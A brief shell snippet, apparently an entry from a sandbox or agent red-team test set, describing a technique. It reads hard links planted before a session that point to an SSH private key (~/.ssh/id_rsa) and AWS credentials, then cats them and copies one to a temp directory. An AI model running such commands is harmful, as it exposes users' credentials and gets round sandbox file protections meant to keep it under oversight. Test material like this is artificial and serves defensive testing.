# technique: read hard links to secrets that existed in the project before the session (build/key.bin → ~/.ssh/id_rsa, build/cache.bin → ~/.aws/credentials)
# needs: prelink
cat build/key.bin; cat build/cache.bin
cp build/cache.bin "$TMPDIR/c" 2>/dev/null && cat "$TMPDIR/c"
